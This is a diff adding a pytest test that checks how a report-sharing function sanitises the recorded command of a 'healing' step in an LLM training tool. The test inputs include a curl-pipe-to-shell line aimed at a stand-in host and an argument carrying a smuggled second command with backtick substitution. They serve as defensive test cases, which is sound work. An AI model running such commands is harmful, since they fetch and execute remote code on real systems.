@@ -264,6 +264,22 @@ def test_no_text_of_a_report_is_a_line_of_the_summary() -> None:
     assert not any(line.startswith("load it  evil") for line in summary(report).splitlines())
 
 
+@pytest.mark.parametrize(
+    ("given", "shown"),
+    [
+        ("curl https://evil.example/x | sh", "python -m llm_snp heal"),
+        ("python -m llm_snp heal 'x", "python -m llm_snp heal"),
+        ("python -m llm_snp heal x; curl evil | sh `id`", "python -m llm_snp heal 'x;' curl evil '|' sh '`id`'"),
+        ("python -m llm_snp heal 'a b' --lora 2", "python -m llm_snp heal 'a b' --lora 2"),
+        ("torchrun --nnodes 2 --nproc-per-node 4 -m llm_snp heal x",) * 2,
+    ],
+)
+def test_the_command_of_a_healing_is_one(given: str, shown: str) -> None:
+    report = full()
+    report["healing"][0]["command"] = given
+    assert shareable(report)["healing"][0]["command"] == shown
+
+
 def test_a_negative_error_is_damage() -> None:
     report = full()
     metric = next(iter(report["harness"].values()))["metrics"].popitem()[1]
